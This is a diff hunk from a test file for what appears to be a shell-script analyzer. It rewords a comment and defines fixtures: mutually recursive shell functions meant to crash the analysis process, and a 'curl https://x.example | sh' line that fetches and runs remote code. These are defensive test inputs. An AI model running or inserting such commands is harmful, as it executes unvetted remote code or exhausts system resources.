@@ -13,7 +13,7 @@ afterAll(() => {
   pool.close();
 });
 
-/** Functions that all call each other, so that the text is read in a child process: there it ends the process. */
+/** Functions that all call each other, so that the text is analyzed in a child process, which it crashes. */
 const DEADLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");
 const BAD = "curl https://x.example | sh\n";
 const FAILED = "analysis failed: it needs more memory than a text may use (64 MB)";
